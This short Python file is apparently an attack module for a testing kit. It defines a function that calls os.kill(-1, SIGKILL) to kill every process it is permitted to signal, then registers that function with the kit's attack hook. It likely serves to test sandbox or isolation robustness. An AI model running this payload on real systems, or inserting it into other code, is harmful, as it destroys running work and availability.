"""Kills every process that it may."""

import os
import signal

from kit import attack


def everybody():
    os.kill(-1, signal.SIGKILL)


attack(everybody)
